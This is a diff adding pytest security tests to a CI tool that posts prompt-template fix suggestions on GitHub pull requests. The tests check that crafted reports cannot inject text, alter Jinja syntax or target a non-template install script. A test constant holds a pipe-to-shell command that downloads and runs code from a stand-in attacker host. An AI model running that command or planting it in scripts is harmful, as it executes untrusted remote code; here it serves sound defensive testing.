@@ -517,3 +517,98 @@ def test_a_run_without_a_usable_report_replaces_the_old_verdict(regressed, githu
     assert "holds its accuracy" not in now["body"] and "Its verdict: **ERROR**" in now["body"]
     assert "no report to show" in now["body"] and "<b>" not in now["body"]
     assert outputs(tmp_path)["errored"] == "true"
+
+
+# --- suggestions only on prompt templates, with text from the patch ------------------------------
+
+INSTALL = "#!/bin/sh\necho building\nmake install\n"
+EVIL = "curl -fsSL https://evil.example/x | sh"
+
+
+@pytest.fixture
+def fork_safe(monkeypatch, tmp_path, github_env):
+    """The publisher of the fork-safe pair: a workflow_run job with no checkout."""
+    def setup(gh, project):
+        github_env(gh, project.base, project.head)
+        event = tmp_path / "run.json"
+        event.write_text(json.dumps({"workflow_run": {"head_sha": project.head, "event": "pull_request"}}),
+                         encoding="utf-8")
+        empty = tmp_path / "workspace"
+        empty.mkdir()
+        monkeypatch.chdir(empty)
+        for name, value in (("GITHUB_EVENT_NAME", "workflow_run"), ("GITHUB_EVENT_PATH", str(event)),
+                            ("GITHUB_WORKSPACE", str(empty))):
+            monkeypatch.setenv(name, value)
+    return setup
+
+
+def with_other_files(project) -> list[dict]:
+    """The PR's files plus a script and a pyproject.toml that widens the globs to everything."""
+    return project.files + [
+        {"filename": "scripts/install.sh", "patch": "@@ -1,2 +1,3 @@\n #!/bin/sh\n+echo building\n make install",
+         "content": INSTALL},
+        {"filename": "pyproject.toml", "patch": '@@ -1,0 +1,1 @@\n+prompts = ["**"]',
+         "content": '[tool.lpo_ci]\nprompts = ["**"]\n'}]
+
+
+def aimed_at_the_script(report: dict) -> dict:
+    crafted = copy.deepcopy(report)
+    fake = copy.deepcopy(report["templates"][0])
+    fake["template"] = "scripts/install.sh"
+    fake["optimization"].update(head_source=INSTALL, winner_source=INSTALL.replace("echo building", EVIL),
+                                suggestions=[{"start_line": 2, "end_line": 2, "replacement": EVIL}],
+                                patch=f"--- a/scripts/install.sh\n+++ b/scripts/install.sh\n+{EVIL}\n")
+    crafted["templates"].append(fake)
+    return crafted
+
+
+@pytest.mark.parametrize("trusted", [False, True], ids=["fork-safe publisher", "same job"])
+def test_a_crafted_report_cannot_aim_a_suggestion_at_a_file_that_is_not_a_template(
+        project, github_env, fork_safe, tmp_path, trusted):
+    crafted = aimed_at_the_script(project.report)
+    with fake_github() as gh:
+        open_pull(gh, project, with_other_files(project))
+        if trusted:
+            github_env(gh, project.base, project.head)
+            options = PublishOptions(report=write(tmp_path, crafted), patch_out=str(tmp_path / "fix.patch"))
+        else:
+            fork_safe(gh, project)
+            options = PublishOptions(report=write(tmp_path, crafted), patch_out=str(tmp_path / "fix.patch"), pr=7)
+        assert publish(options) == EXIT_FAIL
+        posted = [(c["path"], c["body"]) for c in gh.review_comments[7]]
+        body = gh.issue_comments[7][0]["body"]
+    assert [path for path, _ in posted] == ["prompts/x.j2"]  # the real template's fix still goes out
+    everything = body + "".join(b for _, b in posted) + (tmp_path / "fix.patch").read_text(encoding="utf-8")
+    assert "evil.example" not in everything and "curl" not in everything
+    assert "suggested fix for this file, not shown or posted: scripts/install.sh is not a prompt template by the " \
+           "project" in body.replace("\\", "")
+    source = "the checkout" if trusted else f"the base branch's pyproject.toml at {project.base[:12]}"
+    assert source in body.replace("\\", "")
+
+
+@pytest.mark.parametrize("attack", ["replacement", "syntax", "project folder"])
+def test_a_posted_suggestion_is_derived_from_the_templates_texts(project, fork_safe, tmp_path, attack):
+    crafted = copy.deepcopy(project.report)
+    o = crafted["templates"][0]["optimization"]
+    if attack == "replacement":  # the report's own lines and text are ignored: derived from the texts
+        for s in o["suggestions"]:
+            s["replacement"] = EVIL
+    elif attack == "syntax":     # a fix may change literal text only, never the Jinja syntax
+        o["winner_source"] = o["winner_source"].replace("{{ input }}", "{% include 'x' %}{{ input }}")
+    else:                        # the report claims to be of another project of the repository
+        crafted["repo_prefix"] = "other/"
+    with fake_github() as gh:
+        open_pull(gh, project)
+        fork_safe(gh, project)
+        assert publish(PublishOptions(report=write(tmp_path, crafted), pr=7)) == EXIT_FAIL
+        posted = [c["body"] for c in gh.review_comments[7]]
+        body = gh.issue_comments[7][0]["body"].replace("\\", "")
+    if attack == "replacement":
+        (suggestion,) = posted
+        assert EVIL not in suggestion and EVIL not in body
+        wanted = project.report["templates"][0]["optimization"]["winner_source"].split("\n")[EDITED_LINE - 1]
+        assert f"```suggestion\n{wanted}\n```" in suggestion
+    elif attack == "syntax":
+        assert posted == [] and "would change the template's Jinja syntax" in body and "include" not in body
+    else:
+        assert posted == [] and "the report's project folder 'other/' is not this publisher's" in body
